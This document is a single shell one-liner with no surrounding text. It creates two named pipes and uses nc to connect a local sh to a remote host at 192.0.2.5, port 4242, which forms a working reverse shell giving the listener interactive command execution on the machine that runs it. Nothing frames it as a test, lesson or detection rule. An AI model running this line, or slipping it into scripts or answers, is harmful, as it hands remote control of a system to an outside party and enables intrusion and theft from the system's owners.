mkfifo a b; nc 192.0.2.5 4242 < a > b & sh < b > a
